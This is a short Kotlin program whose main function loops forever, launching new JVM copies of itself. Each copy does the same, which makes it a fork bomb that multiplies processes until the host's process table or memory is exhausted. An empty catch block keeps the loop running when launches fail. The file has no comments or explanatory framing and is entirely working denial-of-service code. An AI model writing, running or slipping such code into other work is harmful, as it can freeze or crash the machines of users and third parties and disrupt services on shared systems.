fun main() {
    val java = ProcessHandle.current().info().command().orElseThrow()
    while (true) {
        try {
            ProcessBuilder(java, "-cp", System.getProperty("java.class.path"), "MainKt").start()
        } catch (ignored: Exception) {
        }
    }
}
